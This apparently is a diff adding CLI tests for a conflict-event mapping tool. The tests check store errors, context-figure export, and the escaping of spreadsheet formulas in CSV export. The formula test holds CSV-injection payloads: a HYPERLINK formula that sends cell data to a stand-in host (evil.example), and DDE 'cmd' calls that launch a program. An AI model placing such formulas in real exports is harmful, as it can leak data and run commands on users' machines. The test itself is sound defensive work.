@@ -43,3 +43,53 @@ def test_export_errors(cli, tmp_path, store_path):
     assert code == 2 and "--format" in err
     code, out, err = cli("export", str(tmp_path / "x.csv"), "--until", "2015-13")
     assert code == 1 and "until must be a date" in err
+    code, out, err = cli("export", str(tmp_path / "x.csv"), "--store", str(tmp_path / "no.sqlite"))
+    assert code == 1 and "There is no event store at" in err
+    assert not (tmp_path / "no.sqlite").exists()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
+            "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # fmt: skip
+
+
+def test_csv_export_neutralises_formulas(cli, tmp_path):
+    path = tmp_path / "hostile.csv"
+    rows = "".join(
+        f'F{i},2015-09-30,Battles,Armed clash,Peru,"{f.replace(chr(34), chr(34) * 2)}",'
+        f"{-12.05 + i / 100},-77.04,1,2\n"
+        for i, f in enumerate(FORMULAS)
+    )
+    path.write_text("event_id_cnty,event_date,event_type,sub_event_type,country,location,"
+                    "latitude,longitude,geo_precision,fatalities\n" + rows)  # fmt: skip
+    store = tmp_path / "s.sqlite"
+    assert cli("ingest", str(path), "--store", str(store)).code == 0
+    out = tmp_path / "out.csv"
+    code, _out, err = cli("export", str(out), "--store", str(store))
+    assert code == 0, err
+    import pandas as pd
+
+    frame = pd.read_csv(out, keep_default_na=False)
+    # ingest strips the tab of "\t=1+1": the stored text begins with "=" and is escaped too
+    expected = sorted("'" + f.strip() for f in FORMULAS)
+    assert sorted(frame["location"]) == expected
+    assert set(frame["longitude"]) == {-77.04}  # numbers stay numbers
+    code, _out, err = cli("export", str(out), "--store", str(store), "--no-escape-formulas")
+    assert sorted(pd.read_csv(out, keep_default_na=False)["location"]) == sorted(
+        f.strip() for f in FORMULAS
+    )
+
+
+def test_context_figures_are_exported_only_on_their_own(cli, tmp_path, make_event):
+    from geomap.model import Event
+
+    store = tmp_path / "s.sqlite"
+    with EventStore.open(store) as s:
+        s.upsert_events([make_event(), Event(event_id="text:ctx", deaths_low=250001,
+                                             deaths_best=250001, is_context=True)])  # fmt: skip
+    out = tmp_path / "e.geojson"
+    code, text, err = cli("export", str(out), "--store", str(store))
+    assert code == 0 and "Wrote 1 events" in text, err
+    assert list(gpd.read_file(out)["event_id"]) == ["acled:rastan"]
+    code, text, err = cli("export", str(tmp_path / "c.csv"), "--store", str(store), "--context")
+    assert code == 0 and "Wrote 1 context figures" in text, err
+    assert "250001" in (tmp_path / "c.csv").read_text()
